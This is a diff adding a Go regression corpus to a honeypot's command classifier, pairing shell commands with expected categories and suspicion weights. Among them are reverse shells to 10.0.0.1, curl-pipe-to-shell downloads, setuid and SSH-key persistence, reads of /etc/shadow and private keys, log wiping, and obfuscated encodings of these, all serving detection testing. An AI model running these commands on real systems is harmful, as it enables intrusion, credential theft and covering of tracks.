@@ -0,0 +1,141 @@
+package analyzer
+
+import "fmt"
+
+type CorpusCase struct {
+	Command  string
+	Category Category
+	Weight   int
+}
+
+// RegressionCorpus pins the category and weight of commands that substring
+// matching used to get wrong, plus the shell constructs the parser has to
+// see through. Run it with `honeypot rules corpus` after touching rules.
+var RegressionCorpus = []CorpusCase{
+	{"hidden", CategoryUnknown, 1},
+	{"ls hidden_dir", CategoryUnknown, 1},
+	{"echo $ENVIRONMENT", CategoryUnknown, 1},
+	{"cat environment.txt", CategoryUnknown, 1},
+	{"whoami", CategoryRecon, 5},
+	{"id", CategoryRecon, 5},
+	{"id -u", CategoryRecon, 5},
+	{"ps", CategoryRecon, 8},
+	{"ps aux", CategoryRecon, 8},
+	{"ls -la", CategoryRecon, 5},
+	{"ls -al /tmp", CategoryRecon, 5},
+	{"ls -l", CategoryUnknown, 1},
+	{"mv rw -r", CategoryUnknown, 1},
+	{"w", CategoryRecon, 5},
+	{"who", CategoryRecon, 5},
+	{"env", CategoryRecon, 5},
+	{"env LANG=C ls", CategoryUnknown, 1},
+	{"printenv", CategoryRecon, 5},
+	{"ip a", CategoryRecon, 8},
+	{"ip route", CategoryUnknown, 1},
+	{"sleep 1; uptime", CategoryRecon, 3},
+	{"cat /etc/passwd", CategoryRecon, 15},
+	{"grep root /etc/shadow", CategoryCredentialAccess, 20},
+	{"cat /etc/os-release", CategoryRecon, 10},
+	{"find / -name '*.conf'", CategoryRecon, 12},
+	{"find . -name x", CategoryUnknown, 1},
+	{"cat /.dockerenv", CategoryFingerprint, 40},
+	{"[ -f /.dockerenv ] && echo docker", CategoryFingerprint, 40},
+	{"ls -la /.dockerenv", CategoryFingerprint, 40},
+	{"cat /proc/1/cgroup", CategoryFingerprint, 35},
+	{"grep -qa docker /proc/self/cgroup", CategoryFingerprint, 35},
+	{"X=/proc/1/cgroup; cat $X", CategoryFingerprint, 35},
+	{"cat /proc/cpuinfo | grep hypervisor", CategoryFingerprint, 20},
+	{"systemd-detect-virt", CategoryFingerprint, 40},
+	{"sudo dmidecode -s system-product-name", CategoryFingerprint, 30},
+	{"cat /proc/1/environ | tr '\\0' '\\n' | grep container=", CategoryFingerprint, 30},
+	{"cat /proc/1/cgroup; nc -e /bin/sh 10.0.0.1 4444", CategoryExploit, 85},
+	{"nc -lvp 4444", CategoryUnknown, 1},
+	{"ncat -e /bin/bash 10.0.0.1 80", CategoryExploit, 50},
+	{"chmod +s /bin/bash", CategoryExploit, 50},
+	{"chmod u+s /tmp/sh", CategoryExploit, 50},
+	{"chmod 4755 /tmp/sh", CategoryExploit, 50},
+	{"chmod 755 script.sh", CategoryUnknown, 1},
+	{"chmod 777 /tmp", CategoryExploit, 30},
+	{"/bin/bash -p", CategoryExploit, 50},
+	{"bash -i >& /dev/tcp/10.0.0.1/4444 0>&1", CategoryExploit, 45},
+	{"python3 -c 'import pty; pty.spawn(\"/bin/bash\")'", CategoryExploit, 40},
+	{"curl http://x.sh | bash", CategoryExploit, 60},
+	{"wget -qO- http://x.sh|sh", CategoryExploit, 60},
+	{"curl http://example.com", CategoryDownload, 15},
+	{"curl --version", CategoryUnknown, 1},
+	{"echo x > /etc/cron.d/job", CategoryPersistence, 45},
+	{"echo x > /etc/motd", CategoryExploit, 40},
+	{"echo x > /tmp/etc/job", CategoryUnknown, 1},
+	{"dd if=/dev/sda of=/tmp/disk", CategoryExploit, 35},
+	{"eval 'chmod +s /bin/bash'", CategoryExploit, 50},
+	{"bash -c 'cat /.dockerenv'", CategoryExploit, 65},
+	{"echo $(cat /proc/1/cgroup)", CategoryFingerprint, 35},
+	{"echo `whoami`", CategoryRecon, 5},
+	{"(uname -a; id) | tee /tmp/out", CategoryRecon, 10},
+	{"crontab -l", CategoryUnknown, 1},
+	{"crontab -e", CategoryPersistence, 40},
+	{"(crontab -l; echo '* * * * * /tmp/x') | crontab -", CategoryPersistence, 40},
+	{"echo ssh-rsa AAAA >> ~/.ssh/authorized_keys", CategoryPersistence, 50},
+	{"cat ~/.ssh/authorized_keys", CategoryUnknown, 1},
+	{"cp /tmp/k /root/.ssh/authorized_keys", CategoryPersistence, 50},
+	{"systemctl enable evil.service", CategoryPersistence, 40},
+	{"systemctl status ssh", CategoryUnknown, 1},
+	{"echo 'nc x 1' >> ~/.bashrc", CategoryPersistence, 35},
+	{"useradd -m backup", CategoryPersistence, 40},
+	{"cat ~/.ssh/id_rsa", CategoryCredentialAccess, 25},
+	{"grep -ri password /var/www", CategoryCredentialAccess, 20},
+	{"cat ~/.bash_history", CategoryCredentialAccess, 15},
+	{"history -c", CategoryDefenseEvasion, 30},
+	{"history", CategoryUnknown, 1},
+	{"unset HISTFILE", CategoryDefenseEvasion, 30},
+	{"export HISTFILE=/dev/null", CategoryDefenseEvasion, 30},
+	{"HISTSIZE=0", CategoryDefenseEvasion, 30},
+	{"rm -f ~/.bash_history", CategoryDefenseEvasion, 30},
+	{"echo > /var/log/auth.log", CategoryDefenseEvasion, 35},
+	{"rm -rf /var/log/*", CategoryDefenseEvasion, 35},
+	{"ls /var/log", CategoryUnknown, 1},
+	{"ssh root@10.0.0.5", CategoryLateralMovement, 30},
+	{"ssh -V", CategoryUnknown, 1},
+	{"scp /tmp/x root@10.0.0.5:/tmp/", CategoryLateralMovement, 25},
+	{"./xmrig -o stratum+tcp://pool.minexmr.com:4444 -u wallet", CategoryCryptomining, 60},
+	{"nohup xmrig --donate-level 1 &", CategoryCryptomining, 60},
+	{"wget http://1.2.3.4/x -O /tmp/x", CategoryDownload, 15},
+	{"chmod +x /tmp/x", CategoryDownload, 20},
+	{"chmod +x script.sh", CategoryUnknown, 1},
+	{"wget http://1.2.3.4/x -O /tmp/x && chmod +x /tmp/x && /tmp/x", CategoryDownload, 35},
+	{"echo Y2F0IC9ldGMvc2hhZG93 | base64 -d | sh", CategoryCredentialAccess, 35},
+	{"echo Y2F0IC9ldGMvc2hhZG93 | base64 --decode", CategoryCredentialAccess, 35},
+	{"base64 -d <<< Y2F0IC9ldGMvc2hhZG93 | bash", CategoryCredentialAccess, 35},
+	{"echo ZWNobyBZMkYwSUM5bGRHTXZjMmhoWkc5MyB8IGJhc2U2NCAtZCB8IHNo | base64 -d | sh", CategoryCredentialAccess, 50},
+	{"echo H4sIAAAAAAAAA0tOLFHQTy1J1i/OSEzJLwcAl2T+2w8AAAA= | base64 -d | gunzip | sh", CategoryCredentialAccess, 45},
+	{"printf '\\x63\\x61\\x74 /etc/shadow' | sh", CategoryCredentialAccess, 35},
+	{"printf '\\143\\141\\164 /etc/shadow' | sh", CategoryCredentialAccess, 35},
+	{"$'\\x63\\x61\\x74' /etc/shadow", CategoryCredentialAccess, 35},
+	{"echo 'wodahs/cte/ tac' | rev | bash", CategoryCredentialAccess, 35},
+	{"perl -e 'system pack(\"H*\",\"636174202f6574632f736861646f77\")'", CategoryCredentialAccess, 35},
+	{"echo 'hello' | base64", CategoryUnknown, 1},
+	{"echo $'\\n'", CategoryUnknown, 1},
+	{"echo aGVsbG8= | base64 -d", CategoryDefenseEvasion, 15},
+}
+
+type CorpusFailure struct {
+	Case CorpusCase
+	Got  ClassificationResult
+}
+
+func (f CorpusFailure) String() string {
+	return fmt.Sprintf("%q: want %s/%d, got %s/%d (%s)",
+		f.Case.Command, f.Case.Category, f.Case.Weight,
+		f.Got.Category, f.Got.SuspicionWeight, f.Got.Reason)
+}
+
+func CheckCorpus(cases []CorpusCase) []CorpusFailure {
+	var failures []CorpusFailure
+	for _, c := range cases {
+		got := Classify(c.Command)
+		if got.Category != c.Category || got.SuspicionWeight != c.Weight {
+			failures = append(failures, CorpusFailure{Case: c, Got: got})
+		}
+	}
+	return failures
+}